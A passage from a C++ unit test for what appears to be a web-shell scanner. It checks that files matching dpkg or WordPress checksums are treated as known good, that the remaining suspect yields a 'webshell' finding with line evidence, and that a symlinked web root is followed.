    if (s.path == "/var/www/site/tool.php") md5 = s.md5;
  ASSERT_EQ(md5.size(), 32u);
  put("var/lib/dpkg/info/sitetool.md5sums", md5 + "  var/www/site/tool.php\n");
  auto again = web_scan(Root(dir_), o);
  ASSERT_TRUE(again.has_value());
  EXPECT_EQ(again->suspects.size(), 2u);
  EXPECT_EQ(again->known_good, 1u);
  EXPECT_EQ(again->known_good_paths, std::vector<std::string>{"/var/www/site/tool.php (dpkg)"});
  // … and so is a WordPress file whose bytes the release's checksums name.
  put("var/www/site/wp-includes/version.php", "<?php $wp_version = '6.1';");
  put("tmp-checksums.json", "{\"checksums\": {\"6.1\": {\"wp-content/uploads/2026/cache.php\": \"" +
                                again->suspects.back().md5 + "\"}}}");
  auto sums = read_wp_checksums((dir_ / "tmp-checksums.json").string());
  ASSERT_TRUE(sums.has_value()) << sums.error().message;
  o.wp_md5 = *sums;
  auto third = web_scan(Root(dir_), o);
  ASSERT_TRUE(third.has_value());
  EXPECT_EQ(third->known_good, 2u);
  EXPECT_EQ(third->known_good_paths.back(),
            "/var/www/site/wp-content/uploads/2026/cache.php (wordpress)");
  ASSERT_EQ(third->suspects.size(), 1u);
  // Findings: one per suspect, module web, the evidence naming the line.
  auto f = webshell_findings(*third);
  ASSERT_EQ(f.size(), 1u);
  EXPECT_EQ(f[0].module, "web");
  EXPECT_EQ(f[0].check, "webshell");
  EXPECT_EQ(f[0].asset, "file:" + third->suspects[0].path);
  EXPECT_NE(f[0].evidence.find("line 1:"), std::string::npos) << f[0].evidence;
  EXPECT_FALSE(read_wp_checksums((dir_ / "var/www/site/style.css").string()).has_value());
  // A web root that is itself a link (releases/42 → current) is followed once, to its target.
  fs::create_symlink("site", dir_ / "var/www/current");  // inside the root: relative
  WebScanOptions linked;
  linked.dirs = {"/var/www/current"};
  linked.use_dpkg = false;
  auto via_link = web_scan(Root(dir_), linked);
  ASSERT_TRUE(via_link.has_value());
  EXPECT_EQ(via_link->suspects.size(), 3u);
  EXPECT_EQ(via_link->unreadable, 0u);
}

}  // namespace
}  // namespace mamori::web
